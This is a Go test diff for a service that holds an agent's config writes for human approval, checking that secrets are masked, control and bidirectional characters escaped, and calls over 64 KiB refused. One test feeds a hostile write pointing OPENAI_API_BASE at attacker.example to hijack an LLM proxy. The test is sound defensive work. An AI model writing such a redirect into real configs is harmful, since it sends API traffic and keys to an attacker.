@@ -3,6 +3,7 @@ package control_test
 import (
 	"context"
 	"database/sql"
+	"encoding/json"
 	"errors"
 	"os"
 	"path/filepath"
@@ -268,7 +269,7 @@ func TestReadsAreBoundedRedactedAndMarkedUntrusted(t *testing.T) {
 		t.Error("an undeclared file was shown")
 	}
 	lg, err := f.svc.Logs(ctx, control.LogsRequest{Service: "litellm", Lines: 10})
-	if err != nil || len(lg.Lines) != 1 || strings.Contains(lg.Lines[0], "sk-live") || !strings.Contains(lg.Lines[0], "[REDACTED]") {
+	if err != nil || len(lg.Lines) != 1 || strings.Contains(lg.Lines[0], "sk-live") || !strings.Contains(lg.Lines[0], "token=[secret: ") {
 		t.Errorf("logs: %+v %v", lg, err)
 	}
 	for _, bad := range []control.LogsRequest{{}, {Service: "a", Agent: "b"}, {Service: "nope"}, {Service: "litellm", Since: "yesterday"}} {
@@ -305,5 +306,79 @@ func TestAnActionWhoseIntentCannotBeAuditedIsRefused(t *testing.T) {
 	}
 	if list, _ := f.svc.Snapshots.List(""); len(list) != 0 {
 		t.Errorf("the action ran: %+v", list)
+	}
+}
+
+// TestAnApprovalShowsExactlyWhatWillRun: a person sees every character of
+// the call but a secret's own value: a masked key does not swallow the
+// line after it, a 9 KiB call is shown whole, control and bidi characters
+// are shown escaped, and a call over 64 KiB is refused before anyone is
+// asked.
+func TestAnApprovalShowsExactlyWhatWillRun(t *testing.T) {
+	f := newFixture(t)
+	env := filepath.Join(f.home, "litellm.env")
+	os.WriteFile(env, []byte("LITELLM_MASTER_KEY=old\n"), 0o640)
+	os.WriteFile(f.svc.HostFile, []byte(`{"services":[{"name":"litellm","unit":"litellm.service","configs":[{"path":"`+env+`","format":"none"}]}]}`), 0o600)
+
+	show := func(content string) (display string, args string) {
+		t.Helper()
+		done := make(chan error, 1)
+		go func() {
+			_, err := f.svc.ConfigWrite(t.Context(), viaMCP, env, content)
+			done <- err
+		}()
+		ap := f.pending(t)
+		var ask struct {
+			Display string          `json:"display"`
+			Args    json.RawMessage `json:"args"`
+		}
+		if err := json.Unmarshal(ap.Ask, &ask); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := f.svc.Decide(t.Context(), operator, ap.ID, "reject", ""); err != nil {
+			t.Fatal(err)
+		}
+		<-done
+		return ask.Display, string(ask.Args)
+	}
+
+	// The attack of the issue: a key, then a line that points the proxy
+	// at an attacker.
+	display, args := show("LITELLM_MASTER_KEY=sk-live-0123456789abcdefghij\nOPENAI_API_BASE=https://attacker.example/v1\n")
+	for _, want := range []string{"OPENAI_API_BASE=https://attacker.example/v1", "LITELLM_MASTER_KEY=[secret: 28 chars, sha256 ", "config_write"} {
+		if !strings.Contains(display, want) {
+			t.Errorf("the approval does not show %q:\n%s", want, display)
+		}
+	}
+	for _, s := range []string{display, args} {
+		if strings.Contains(s, "sk-live") {
+			t.Errorf("the approval shows the secret: %s", s)
+		}
+	}
+
+	// 9 KiB is shown whole.
+	big := strings.Repeat("0123456789abcdef", 9<<10/16) + "THE-END"
+	if display, _ := show(big); !strings.Contains(display, big) {
+		t.Errorf("a 9 KiB call is not shown whole (%d bytes shown)", len(display))
+	}
+
+	// Control and bidi characters are escaped and marked.
+	display, _ = show("a\u202eb\u0085c\u200bd\x7fe")
+	for _, want := range []string{"a⟦U+202E⟧b⟦U+0085⟧c⟦U+200B⟧d⟦U+007F⟧e"} {
+		if !strings.Contains(display, want) {
+			t.Errorf("display %q lacks %q", display, want)
+		}
+	}
+
+	// Over 64 KiB: refused, nobody asked, nothing written.
+	_, err := f.svc.ConfigWrite(t.Context(), viaMCP, env, strings.Repeat("x", 65<<10))
+	if err == nil || !strings.Contains(err.Error(), "64 KiB") {
+		t.Fatalf("a 65 KiB call: %v, want a refusal naming the limit", err)
+	}
+	if as, _ := f.svc.Approvals(t.Context(), "pending"); len(as) != 0 {
+		t.Errorf("a person was asked about a 65 KiB call")
+	}
+	if b, _ := os.ReadFile(env); string(b) != "LITELLM_MASTER_KEY=old\n" {
+		t.Errorf("the file changed: %q", b)
 	}
 }
